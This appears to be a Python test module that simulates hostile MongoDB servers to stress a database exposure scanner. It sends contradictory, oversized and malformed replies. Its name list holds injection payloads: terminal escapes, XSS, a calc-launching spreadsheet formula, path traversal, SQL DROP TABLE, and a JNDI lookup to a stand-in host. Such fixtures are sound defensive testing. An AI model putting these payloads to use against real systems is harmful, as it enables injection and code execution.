"""Well-formed answers that claim nonsense: contradictions, absurd sizes, names made to break a terminal."""

from __future__ import annotations

import math
from typing import TYPE_CHECKING, Any

import bson

from results.verdict import Verdict
from scanner.lab import wire
from scanner.lab.hostile.base import LIST, NEVER_OPEN, databases, hostile, says, sends, striking
from scanner.lab.wire import element, raw_document, raw_string

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from scanner.lab.channel import ServerConnection
    from scanner.lab.personality import Personality
    from scanner.lab.wire import ClientMessage, Document

INJECTION_NAMES = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "two\nlines",
    "carriage\rreturn",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "rtl\u202egpj.exe",
    "bidi\u2066x\u2069",
    "../../../../etc/passwd",
    "a|b=c\\d",
    "CEF:0|x|y",
    '"; DROP TABLE ledger; --',
    "{{7*7}}${jndi:ldap://x.example/a}",
    "line\u2028separator\u2029here\u0085",
    "nul\x00inside",
    "%s%n%x",
    "\ud7ff\ufdd0\ufeff",
    "x" * 63,
)
_LIST: list[Document] = [{"name": "admin"}, {"name": "shop"}]


def personalities() -> list[Personality]:
    """All cases of this file."""
    return [*_ok(), *_shapes(), *_sizes(), *_names(), *_errors()]


def _case(
    name: str,
    text: str,
    document: Document,
    verdict: Verdict = Verdict.UNKNOWN,
    also: frozenset[Verdict] = frozenset(),
) -> Personality:
    return hostile(name, text, striking(says(document), LIST), verdict, also)


def _ok() -> list[Personality]:
    def claimed(name: str, value: Any, verdict: Verdict = Verdict.UNKNOWN) -> Personality:
        text = f"ok is {value!r}"
        return _case(f"ok_{name}", text, {"databases": _LIST, "ok": value}, verdict)

    return [
        claimed("string", "1"),
        claimed("nan", math.nan),
        claimed("two", 2),
        claimed("document", {}),
        claimed("null", None),
        claimed("true", True, Verdict.OPEN),
        claimed("whole", 1, Verdict.OPEN),
        _case("ok_zero_with_list", "ok: 0, and a list all the same", {"databases": _LIST, "ok": 0.0}),
        _case(
            "code_with_list",
            "ok: 1 with a list, code 13 and an error text",
            {"databases": _LIST, "ok": 1.0, "code": 13, "errmsg": "not authorized"},
            also=frozenset({Verdict.OPEN}),
        ),
    ]


def _shapes() -> list[Personality]:
    shapes: dict[str, tuple[str, Any]] = {
        "absent": ("no list at all", None),
        "document": ("the list is a document", {"0": {"name": "shop"}}),
        "string": ("the list is a string", "shop"),
        "numbers": ("the entries are numbers", [1, 2]),
        "nameless": ("the entries have no name", [{"sizeOnDisk": 1.0}]),
        "number_names": ("the names are numbers", [{"name": 7}]),
    }
    made = []
    for name, (text, value) in shapes.items():
        document = {"ok": 1.0} if value is None else {"databases": value, "ok": 1.0}
        made.append(_case(f"list_{name}", text, document, also=NEVER_OPEN))
    empty: Document = {"databases": [], "ok": 1.0}
    also = frozenset({Verdict.UNKNOWN})
    made.append(
        _case("list_empty", "an empty list, though all else is open", empty, Verdict.OPEN_NO_DATA, also)
    )
    return made


def _sizes() -> list[Personality]:
    odd = (math.nan, -1.0, 1e308, math.inf, "big", -(2**63), 2**63 - 1, None, {"a": 1}, True)
    entries: list[Document] = [
        {"name": f"db{index}", "sizeOnDisk": size, "empty": "no"} for index, size in enumerate(odd)
    ]
    document = {"databases": entries, "totalSize": math.nan, "totalSizeMb": -5, "ok": 1.0}
    return [_case("odd_sizes", "sizes that are no sizes", document, Verdict.OPEN)]


def _names() -> list[Personality]:
    injected = raw_document(databases(*INJECTION_NAMES), wire.element(1, "ok", b"\x00" * 6 + b"\xf0\x3f"))
    return [
        hostile(
            "injection_names",
            "names made for terminals, spreadsheets, browsers and paths",
            striking(says(injected), LIST),
            Verdict.OPEN,
        ),
        hostile("long_names", "names of 1 MiB", striking(sends(_long_names), LIST), Verdict.OPEN),
        hostile("million_names", "a million databases", striking(_million_names, LIST), Verdict.OPEN),
        hostile(
            "list_48mb",
            "a correct list of 48 MB, the longest message there is",
            striking(_longest_list, LIST),
            Verdict.OPEN,
        ),
        hostile(
            "hello_48mb",
            "a first reply of 48 MB",
            striking(_longest_hello),
            also=NEVER_OPEN,
        ),
    ]


def _long_names(request: ClientMessage) -> bytes:
    names = [letter * 1024**2 for letter in "ab"]
    return wire.answer(request, {"databases": [{"name": each} for each in names], "ok": 1.0})


def _entries(count: int, name: bytes) -> list[bytes]:
    """A million entries cost 30 MB, so they come in slices of 10,000."""
    entry = raw_document(element(2, "name", raw_string(name)))
    slices = []
    for begin in range(0, count, 10_000):
        numbers = range(begin, min(begin + 10_000, count))
        slices.append(b"".join(b"\x03%d\x00%s" % (number, entry) for number in numbers))
    return slices


async def _send_list(channel: ServerConnection, request: ClientMessage, slices: list[bytes]) -> None:
    inner = 4 + sum(map(len, slices)) + 1
    head, tail = b"\x04databases\x00", b"\x00" + b"\x01ok\x00" + b"\x00" * 6 + b"\xf0\x3f" + b"\x00"
    document = 4 + len(head) + inner - 1 + len(tail)
    lead = bytes(4) + b"\x00" if request.opcode == wire.OP_MSG else b"\x08" + bytes(15) + b"\x01" + bytes(3)
    opcode = wire.OP_MSG if request.opcode == wire.OP_MSG else wire.OP_REPLY
    begin = wire.header(16 + len(lead) + document, request.request_id, opcode) + lead
    await channel.send(begin + document.to_bytes(4, "little") + head + inner.to_bytes(4, "little"))
    for each in slices:
        await channel.send(each)
    await channel.send(tail)


async def _million_names(channel: ServerConnection, request: ClientMessage) -> bool:
    await _send_list(channel, request, _entries(1_000_000, b"x"))
    return True


async def _longest_list(channel: ServerConnection, request: ClientMessage) -> bool:
    slices = _entries(20_000, b"n" * 2_300)
    await _send_list(channel, request, slices)
    return True


async def _longest_hello(channel: ServerConnection, request: ClientMessage) -> bool:
    async for part in _padding(request):
        await channel.send(part)
    return True


async def _padding(request: ClientMessage) -> AsyncIterator[bytes]:
    """A valid isMaster reply of exactly 48,000,000 bytes, mostly one string."""
    fields = bson.encode({"ismaster": True, "maxWireVersion": 21, "minWireVersion": 0, "ok": 1.0})[4:-1]
    lead = 36 if request.opcode != wire.OP_MSG else 21
    room = wire.MAX_MESSAGE - lead - 4 - len(fields) - len(b"\x02pad\x00") - 4 - 1 - 1
    document = wire.MAX_MESSAGE - lead
    prefix = wire.answer(request, b"")[16:]
    opcode = wire.OP_MSG if request.opcode == wire.OP_MSG else wire.OP_REPLY
    yield wire.header(wire.MAX_MESSAGE, request.request_id, opcode) + prefix
    yield document.to_bytes(4, "little") + fields + b"\x02pad\x00" + (room + 1).to_bytes(4, "little")
    chunk = b"p" * 1024**2
    for begin in range(0, room, len(chunk)):
        yield chunk[: room - begin]
    yield b"\x00\x00"


def _errors() -> list[Personality]:
    def refused(name: str, text: str, document: Document, verdict: Verdict) -> Personality:
        return _case(name, text, {"ok": 0.0, **document}, verdict)

    local = "unauthorized: this command must run from localhost when running db without auth"
    return [
        refused(
            "long_error",
            "an error text of 900 KiB, with code 13",
            {"errmsg": "n" * 900 * 1024, "code": 13, "codeName": "Unauthorized"},
            Verdict.AUTH_REQUIRED,
        ),
        refused(
            "wrong_database_13",
            "code 13 with the words for a wrong database",
            {"errmsg": "listDatabases may only be run against the admin database.", "code": 13},
            Verdict.UNKNOWN,
        ),
        _case(
            "localhost_words",
            "the words for a server without access control, and no list",
            {"ok": 0.0, "errmsg": local},
            Verdict.OPEN_NO_DATA,
            frozenset({Verdict.OPEN, Verdict.UNKNOWN}),
        ),
        refused(
            "code_as_string",
            "the code is a string",
            {"errmsg": "command listDatabases requires authentication", "code": "13"},
            Verdict.AUTH_REQUIRED,
        ),
        refused("no_words", "ok: 0 and nothing else", {}, Verdict.UNKNOWN),
        refused("huge_code", "a code of 2^62", {"errmsg": "x", "code": 2**62}, Verdict.UNKNOWN),
    ]
